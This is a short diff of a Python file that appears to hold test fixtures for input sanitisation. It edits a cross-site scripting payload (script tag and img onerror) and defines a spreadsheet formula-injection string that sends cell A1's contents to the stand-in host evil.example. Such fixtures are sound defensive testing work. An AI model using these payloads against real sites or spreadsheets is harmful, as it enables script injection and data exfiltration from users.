@@ -8,7 +8,7 @@ from datetime import date
 from typing import Any
 
 TODAY = date(2026, 11, 27)
-SCRIPT = '"><script>window.pwned=1</script><img src=x onerror="window.pwned=1">'
+SCRIPT = '"><script>window.pwned=true</script><img src=x onerror="window.pwned=true">'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 #: What a name may be: parts of paths, what no eye sees, what looks like another, what has no end.
 NAMES = {
